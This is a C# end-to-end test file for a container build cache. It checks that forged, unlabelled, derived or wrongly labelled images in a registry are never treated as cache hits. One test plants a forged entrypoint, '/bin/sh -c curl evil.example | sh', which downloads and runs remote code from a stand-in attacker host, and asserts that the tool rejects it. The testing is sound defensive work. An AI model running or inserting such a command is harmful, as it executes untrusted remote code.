using System.Text.Json;
using System.Text.Json.Nodes;
using ContainerCache.TestRegistry;

namespace ContainerCache.EndToEndTests;

/// <summary>
/// Never a false hit: a stored image is reused, or verified, only when it can be shown to be the one
/// these inputs build. A tag proves nothing, a label proves nothing, a key that names the base image
/// by tag proves nothing about the base (that last one on the app of the base-resolution faults, whose
/// faults make such a key: RegistryFaultTests.BaseResolutionStallsOrFails_...).
/// </summary>
[TestClass]
public sealed class TrustTests
{
    private static RegistryReader Reader => EndToEnd.Reader;

    /// <summary>
    /// Images that are not this key's, on one app (one first publish, where two tests took two): a label
    /// alone, inherited or copied, neither verifies nor is reused; an image under the key's tag without
    /// the label, or labelled with another key, each in a repository of its own, is not a hit and is replaced.
    /// </summary>
    [TestMethod]
    public async Task LabelAlone_IsNotEnough_ForReuseOrVerify_NoLabelOrAnotherKey_IsNotAHit_AndIsReplaced()
    {
        TestApp app = TestApp.Create("Forged");
        await app.PublishContainerAsync();
        string key = app.KeyFileKey();
        string host = EndToEnd.Registry.Host;

        // An image built FROM the app: one more layer, one more variable, the label inherited.
        await ImageForge.PushEditedAsync(host, app.Repository, key, "derived", c => ((JsonArray)c["Env"]!).Add("EXTRA=1"), addLayer: true);
        CommandResult derived = await app.TryPublishAsync("-t:ContainerCacheVerify", $"-p:ContainerCacheVerifyImage={host}/{app.Repository}:derived");
        Assert.AreNotEqual(0, derived.ExitCode, derived.Output);
        StringAssert.Contains(derived.Output, "error CONTAINERCACHE1006");
        StringAssert.Contains(derived.Output, "base.layers");
        StringAssert.Contains(derived.Output, "env:EXTRA");

        // The label copied onto an image with another entrypoint, under the key's own tag.
        string forged = await ImageForge.PushEditedAsync(host, app.Repository, key, key, c => c["Entrypoint"] = new JsonArray("/bin/sh", "-c", "curl evil.example | sh"));
        CommandResult republish = await app.PublishContainerAsync();

        StringAssert.Contains(republish.Output, "ContainerCache: miss:");
        StringAssert.Contains(republish.Output, "its entrypoint disagrees with this publish");
        Assert.IsFalse(republish.Output.Contains("evil.example"), "Names, never values:\n" + republish.Output);
        StringAssert.Contains(republish.Output, "Pushed image");
        Assert.AreNotEqual(forged, await Reader.GetManifestDigestAsync(app.Repository, key), "The key tag names a real image again.");
        using JsonDocument config = await Reader.GetConfigAsync(app.Repository, key);
        Assert.AreNotEqual("/bin/sh", config.RootElement.GetProperty("config").GetProperty("Entrypoint")[0].GetString());

        CommandResult verify = await app.TryPublishAsync("-t:ContainerCacheVerify", $"-p:ContainerCacheVerifyImage={host}/{app.Repository}:latest");
        Assert.AreEqual(0, verify.ExitCode, verify.Output);
        StringAssert.Contains(verify.Output, "ContainerCache: verified:");

        // An unrelated image without the label under the key's tag.
        string unlabelled = app.Repository + "-impostor";
        string impostor = await BaseImage.PushAsync(host, unlabelled, key, [("linux", "amd64")], marker: "impostor");
        CommandResult result = await app.PublishContainerAsync("-p:ContainerRepository=" + unlabelled);

        StringAssert.Contains(result.Output, "ContainerCache: miss:");
        StringAssert.Contains(result.Output, "has no dev.containercache.key label");
        StringAssert.Contains(result.Output, "Pushed image");
        Assert.AreNotEqual(impostor, await Reader.GetManifestDigestAsync(unlabelled, key), "The key tag now names the real image.");
        Assert.AreEqual(key, (await Reader.GetLabelsAsync(unlabelled, key))[EndToEnd.KeyLabel]);
        Assert.AreEqual(key, (await Reader.GetLabelsAsync(unlabelled, "latest"))[EndToEnd.KeyLabel]);

        // An image labelled with another key.
        string otherRepository = app.Repository + "-otherkey";
        string other = new string('0', 32);
        await BaseImage.PushAsync(host, otherRepository, key, [("linux", "amd64")], labels: new Dictionary<string, string> { [EndToEnd.KeyLabel] = other });
        CommandResult otherKey = await app.PublishContainerAsync("-p:ContainerRepository=" + otherRepository);

        StringAssert.Contains(otherKey.Output, $"is labelled with the key {other}, not {key}");
        StringAssert.Contains(otherKey.Output, "Pushed image");
        Assert.AreEqual(key, (await Reader.GetLabelsAsync(otherRepository, key))[EndToEnd.KeyLabel]);
    }
}
